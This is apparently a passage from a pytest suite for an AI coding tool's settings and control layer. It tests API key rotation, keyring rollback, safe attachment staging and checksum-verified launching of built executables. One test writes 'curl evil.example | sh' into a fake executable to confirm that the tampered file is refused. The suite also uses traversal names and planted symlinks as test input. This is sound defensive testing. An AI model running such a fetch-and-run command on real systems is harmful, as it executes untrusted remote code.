    """Refuses to store the entries named in ``refused`` (as a keyring with a quota might)."""

    def __init__(self, refused):
        super().__init__()
        self.refused = set(refused)

    def set_password(self, service, username, password):
        if username in self.refused:
            raise keyring.errors.PasswordSetError("the keyring refused the entry")
        super().set_password(service, username, password)


def test_an_import_whose_keys_cannot_be_stored_puts_the_settings_back(
        isolated_settings, settings_path, tmp_path):
    export = write_export(tmp_path / "export.json", '[ui]\ntheme = "dark"\n',
                          seal({"mine": KEY, "mine#2": SECOND}, "correct horse battery",
                               n=2**15))
    settings_path.write_text(ORIGINAL_TOML, encoding="utf-8")
    previous = keyring.get_keyring()
    backend = FailingKeyring(refused={"mine#2"})
    backend.store[(KEYRING_SERVICE, "mine")] = "sk-old-key"
    keyring.set_keyring(backend)
    try:
        with pytest.raises(InputError, match="keyring"):
            import_settings(export, passphrase="correct horse battery")
        assert settings_path.read_text(encoding="utf-8") == ORIGINAL_TOML
        assert backend.store == {(KEYRING_SERVICE, "mine"): "sk-old-key"}  # rolled back
    finally:
        keyring.set_keyring(previous)


def test_an_import_removes_a_providers_stale_extra_keys(isolated_settings, settings_path,
                                                       memory_keyring, tmp_path):
    memory_keyring.store.update({(KEYRING_SERVICE, "mine"): "sk-old-1",
                                 (KEYRING_SERVICE, "mine#2"): "sk-old-2",
                                 (KEYRING_SERVICE, "mine#3"): "sk-old-3",
                                 (KEYRING_SERVICE, "other"): "sk-other"})
    export = write_export(tmp_path / "export.json", "",
                          seal({"mine": KEY}, "correct horse battery", n=2**15))
    import_settings(export, passphrase="correct horse battery")
    assert memory_keyring.store == {(KEYRING_SERVICE, "mine"): KEY,
                                    (KEYRING_SERVICE, "other"): "sk-other"}


# -- several keys (finding 20) -----------------------------------------------------------------


def test_keys_are_looked_up_in_order_environment_first(isolated_settings, memory_keyring,
                                                       monkeypatch):
    from graph.settings import lookup_key, lookup_keys

    settings = add_provider("mine", "https://llm.example.com/v1", [KEY, SECOND, KEY])
    config = settings.providers["mine"]
    assert lookup_keys("mine", config) == [KEY, SECOND]  # a repeated key is tried once
    monkeypatch.setenv("MINE_API_KEY", WRONG)
    assert lookup_keys("mine", config) == [WRONG, KEY, SECOND]
    assert lookup_key("mine", config) == WRONG
    assert lookup_key.all_keys("mine", config) == [WRONG, KEY, SECOND]


def test_a_refused_key_makes_runs_use_the_providers_next_key(isolated_settings,
                                                            memory_keyring):
    from langchain_core.messages import HumanMessage

    from agents.cassette import Interaction, ResponseRecord
    from agents.models import ModelRef, ModelSelector
    from graph.settings import lookup_key

    answer = Cassette([Interaction(key="judge/0", role="judge", model="mine:m",
                                   response=ResponseRecord(content="hello"))])
    with CassetteServer(answer, api_key=KEY) as srv:
        settings = add_provider("mine", srv.base_url, [WRONG, SECOND, KEY])
        events = []
        selector = ModelSelector(roles={"judge": [ModelRef.parse("mine:m")]},
                                 providers=settings.providers, key_lookup=lookup_key,
                                 on_event=events.append)
        selector.preflight()  # key 1 and 2 refused, key 3 lists the models
        assert [e for e in events if e["type"] == "key_rotated"] == [
            {"type": "key_rotated", "provider": "mine", "refused": 1, "key": 2, "keys": 3},
            {"type": "key_rotated", "provider": "mine", "refused": 2, "key": 3, "keys": 3}]
        srv.clear_requests()
        assert selector.invoke("judge", [HumanMessage("hi")], key="judge/0").content == "hello"
        assert [r.authorization for r in srv.requests] == [f"Bearer {KEY}"]

        # a fresh selector (a new run) finds the working key itself, without falling back
        events.clear()
        fresh = ModelSelector(roles={"judge": [ModelRef.parse("mine:m")]},
                              providers=settings.providers, key_lookup=lookup_key,
                              on_event=events.append)
        assert fresh.invoke("judge", [HumanMessage("hi")], key="judge/0").content == "hello"
        assert [e["type"] for e in events if e["type"] != "model_call"] == [
            "key_rotated", "key_rotated", "price_unknown"]
        assert fresh.usage["mine:m"].failures == 0
        everything = json.dumps(events)
        assert all(secret not in everything for secret in (KEY, WRONG, SECOND))


def test_every_key_refused_is_an_error_naming_each(isolated_settings, memory_keyring, server):
    settings = add_provider("mine", server.base_url, [WRONG, SECOND])
    status = check_provider(settings, "mine")
    assert status.state == "error"
    assert status.message == ("none of the 2 keys works: key 1 was refused (HTTP 401);"
                              " key 2 was refused (HTTP 401)")
    assert status.keys == 2


def test_env_override_names_the_variable_that_wins(isolated_settings, monkeypatch):
    from graph.settings import env_override

    assert env_override("sandbox", "backend") == "MULTICODER_SANDBOX__BACKEND"
    assert env_override("ui", "theme") is None
    monkeypatch.setenv("multicoder_ui__theme", "dark")
    assert env_override("ui", "theme") == "multicoder_ui__theme"
    monkeypatch.setenv("MULTICODER_WEB", '{"enabled": false}')
    assert env_override("web", "enabled") == "MULTICODER_WEB"
    monkeypatch.setenv("MULTICODER_PARANOID", "")
    assert env_override("paranoid") is None


# -- attachments (findings 13, 30, 32) ---------------------------------------------------------


def test_a_discarded_attachment_takes_its_folder_along(tmp_path):
    from graph.control import discard_attachment

    staging = tmp_path / "uploads"
    source = tmp_path / "data.csv"
    source.write_text("a\n")
    one, two = stage_attachment(source, staging), stage_attachment(source, staging)
    discard_attachment(one, staging)
    assert not one.parent.exists()
    assert two.is_file()  # the other copy of the same file stays
    assert [p.name for p in staging.iterdir()] == [two.parent.name]


@pytest.mark.skipif(sys.platform == "win32", reason="symbolic links need privileges there")
def test_links_and_paths_outside_the_staging_folders_are_never_removed(tmp_path):
    from graph.control import discard_attachment

    staging = tmp_path / "uploads"
    source = tmp_path / "data.csv"
    source.write_text("a\n")
    staged = stage_attachment(source, staging)
    # a link outside pointing at a staged file: the link's target must not go
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "data.csv").symlink_to(staged)
    discard_attachment(outside / "data.csv", staging)
    assert staged.is_file()
    # a link inside a staged folder pointing out: the file it names stays
    (staged.parent / "link.csv").symlink_to(source)
    discard_attachment(staged.parent / "link.csv", staging)
    assert source.is_file()
    # a staged folder that is itself a link to another folder
    (staging / "sneaky").symlink_to(outside, target_is_directory=True)
    (outside / "plain.txt").write_text("keep")
    discard_attachment(staging / "sneaky" / "plain.txt", staging)
    assert (outside / "plain.txt").is_file()
    # deeper than one folder: left alone
    deep = staged.parent / "sub"
    deep.mkdir()
    (deep / "x.txt").write_text("keep")
    discard_attachment(deep / "x.txt", staging)
    assert (deep / "x.txt").is_file()


def test_clean_staging_removes_only_stale_attachments(tmp_path):
    import os

    from graph.control import clean_staging, stage_image

    staging = tmp_path / "uploads"
    source = tmp_path / "data.csv"
    source.write_text("a\n")
    old, fresh = stage_attachment(source, staging), stage_attachment(source, staging)
    loose = staging / "data-2.csv"  # staged the older way, directly in the folder
    loose.write_text("a\n")
    day_ago = time.time() - 25 * 3600
    for path in (old.parent, loose):
        os.utime(path, (day_ago, day_ago))
    assert clean_staging(staging) == 2
    assert not old.exists() and not loose.exists()
    assert fresh.is_file()
    assert clean_staging(tmp_path / "missing") == 0
    image = stage_image(b"\x89PNG fake", staging)
    assert clean_staging(staging, older_than_s=-1) == 2  # everything, new ones too
    assert not image.exists()


def test_stage_image_keeps_the_name_in_a_folder_of_its_own(tmp_path):
    from graph.control import MAX_ATTACHMENT_BYTES, stage_image

    staging = tmp_path / "uploads"
    first = stage_image(b"\x89PNG one", staging)
    second = stage_image(b"\x89PNG two", staging, name="../../screenshot.png")
    assert first.name == "pasted-image.png" and first.read_bytes() == b"\x89PNG one"
    assert second.name == "screenshot.png" and second.parent.parent == staging
    with pytest.raises(InputError, match="larger than 50 MB"):
        stage_image(b"x" * (MAX_ATTACHMENT_BYTES + 1), staging)
    with pytest.raises(InputError, match="empty"):
        stage_image(b"", staging)
    with pytest.raises(InputError, match="not a usable file name"):
        stage_image(b"x", staging, name="..")
    assert len(list(staging.iterdir())) == 2  # nothing left by the refusals


# -- artifacts (finding 4) ---------------------------------------------------------------------

RUN = "20260101-120000-abcdef"


def fake_build(settings, *, exe_name="app", path=None):
    """A finished run whose build made ``dist/app``: index row, events.jsonl, manifest."""
    import hashlib
    import os

    from graph.history import RunHistory

    run_dir = settings.runs_dir / RUN
    dist = run_dir / "dist"
    dist.mkdir(parents=True)
    exe = dist / exe_name
    exe.write_text('#!/bin/sh\necho "started in $PWD" > started.txt\n')
    exe.chmod(0o755)
    built = path or exe
    sha = hashlib.sha256(built.read_bytes()).hexdigest()
    event = {"ts": "2026-01-01T12:00:00+00:00", "seq": 7, "type": "packaging_built",
             "path": str(built), "size_bytes": built.stat().st_size, "sha256": sha}
    (run_dir / "events.jsonl").write_text(
        json.dumps({"seq": 1, "type": "run_created"}) + "\n" + json.dumps(event) + "\n")
    (dist / "manifest.json").write_text(json.dumps({"name": "app", "file": exe_name,
                                                    "sha256": sha}))
    history = RunHistory(settings)
    history.index.add(RUN, "build it", str(run_dir))
    history.index.update(RUN, status="done", artifact=str(built))
    assert os.access(exe, os.X_OK)
    return exe


@pytest.mark.skipif(sys.platform == "win32", reason="starts a POSIX shell script")
def test_launch_artifact_starts_the_built_executable_detached(isolated_settings):
    exe = fake_build(isolated_settings)
    assert control.artifact_folder(isolated_settings, RUN) == exe.parent.resolve()
    assert control.launch_artifact(isolated_settings, RUN) == exe.resolve()
    marker = exe.parent / "started.txt"
    deadline = time.monotonic() + 10
    while not marker.exists() and time.monotonic() < deadline:
        time.sleep(0.02)
    assert marker.read_text().strip() == f"started in {exe.parent.resolve()}"


def test_a_changed_executable_is_not_started(isolated_settings, monkeypatch):
    started = []
    monkeypatch.setattr(control, "_start_detached", started.append)
    exe = fake_build(isolated_settings)
    exe.write_text(exe.read_text() + "curl evil.example | sh\n")
    with pytest.raises(InputError) as refused:
        control.launch_artifact(isolated_settings, RUN)
    assert str(refused.value) == (f"the executable of run {RUN} changed since it was built"
                                  " (sha256 differs): it was not started")
    assert started == []


def test_a_manifest_rewritten_from_inside_the_sandbox_is_not_trusted(isolated_settings,
                                                                    monkeypatch):
    import hashlib

    started = []
    monkeypatch.setattr(control, "_start_detached", started.append)
    exe = fake_build(isolated_settings)
    exe.write_text("#!/bin/sh\necho other\n")  # replaced, and the manifest made to match
    manifest = exe.parent / "manifest.json"
    manifest.write_text(json.dumps({"sha256": hashlib.sha256(exe.read_bytes()).hexdigest()}))
    with pytest.raises(InputError, match="sha256 differs"):
        control.launch_artifact(isolated_settings, RUN)
    assert started == []


def test_only_a_file_of_the_runs_own_dist_is_started(isolated_settings, monkeypatch, tmp_path):
    started = []
    monkeypatch.setattr(control, "_start_detached", started.append)
    outside = tmp_path / "outside"
    outside.mkdir()
    stray = outside / "app"
    stray.write_text("#!/bin/sh\n")
    fake_build(isolated_settings, path=stray)
    with pytest.raises(InputError, match="not the file its build made"):
        control.launch_artifact(isolated_settings, RUN)
    with pytest.raises(InputError, match="not a run id"):
        control.launch_artifact(isolated_settings, "../" + RUN)
    with pytest.raises(InputError, match="no run"):
        control.launch_artifact(isolated_settings, "20260101-000000-000000")
    with pytest.raises(InputError, match="no run"):
        control.artifact_folder(isolated_settings, "20260101-000000-000000")
    (isolated_settings.runs_dir / "20260101-000000-000000").mkdir()
    with pytest.raises(InputError, match="no build folder"):
        control.artifact_folder(isolated_settings, "20260101-000000-000000")
    assert started == []


@pytest.mark.skipif(sys.platform == "win32", reason="symbolic links need privileges there")
def test_a_link_planted_in_dist_is_not_followed(isolated_settings, monkeypatch, tmp_path):
    started = []
    monkeypatch.setattr(control, "_start_detached", started.append)
    exe = fake_build(isolated_settings)
    target = tmp_path / "payload"
    target.write_bytes(exe.read_bytes())  # the same bytes, so only the link gives it away
    exe.unlink()
    exe.symlink_to(target)
    with pytest.raises(InputError, match="not the file its build made"):
        control.launch_artifact(isolated_settings, RUN)
    assert started == []


def test_a_run_without_an_executable_says_so(isolated_settings):
    from graph.history import RunHistory

    (isolated_settings.runs_dir / RUN).mkdir(parents=True)
    RunHistory(isolated_settings).index.add(RUN, "t", str(isolated_settings.runs_dir / RUN))
    with pytest.raises(InputError, match="has no executable"):
        control.launch_artifact(isolated_settings, RUN)
